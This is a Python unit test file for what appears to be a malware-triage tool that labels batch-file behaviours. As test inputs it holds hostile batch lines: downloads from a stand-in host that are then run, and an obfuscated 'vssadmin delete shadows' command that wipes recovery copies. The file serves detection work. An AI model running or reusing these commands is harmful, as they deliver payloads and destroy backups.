"""What batch files do, with what flows through files."""

from tests.unit.triage.facts.reading import acts, chains, told
from vedette.triage.fact import Act
from vedette.triage.kinds import Kind

BAT = Kind.BATCH


def test_a_download_is_followed_to_its_run() -> None:
    code = "certutil -urlcache -f http://a.invalid/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"
    assert (Act.RUNS_COMMAND, Act.DOWNLOADS) in chains(code, BAT)


def test_who_only_names_a_file_does_not_run_it() -> None:
    code = "curl -o a1.exe http://a.invalid/a1.exe\r\nattrib +r a1.exe\r\ndir a1.exe\r\n"
    assert (Act.RUNS_COMMAND, Act.DOWNLOADS) not in chains(code, BAT)


def test_a_file_written_line_by_line_is_followed() -> None:
    code = "echo x = 1 > %TEMP%\\a.vbs\r\nwscript %TEMP%\\a.vbs\r\n"
    assert (Act.RUNS_CODE, Act.WRITES_FILE) in chains(code, BAT)


def test_hidden_commands_are_read() -> None:
    code = "set a=vssa\r\nset b=dmin\r\n%a%%b% del^ete sha^dows /all /quiet\r\n"
    assert Act.DESTROYS_RECOVERY in acts(code, BAT)
    (fact,) = [one for one in told(code, BAT) if one.act is Act.DESTROYS_RECOVERY]
    assert fact.quote == "%a%%b% del^ete sha^dows /all /quiet"


def test_pieces_of_variables_are_told_of() -> None:
    assert Act.OBFUSCATED in acts("set a=hello\r\n%a:~1,1%cho x\r\n", BAT)
    assert Act.OBFUSCATED in acts("p^i^n^g l^o^c^a^l\r\n", BAT)


def test_everyday_files_accuse_nobody() -> None:
    code = "@echo off\r\nset OUT=build\r\nmkdir %OUT%\r\nxcopy src %OUT% /s /y\r\necho done ^& ready\r\n"
    assert acts(code, BAT) == {Act.RUNS_COMMAND}
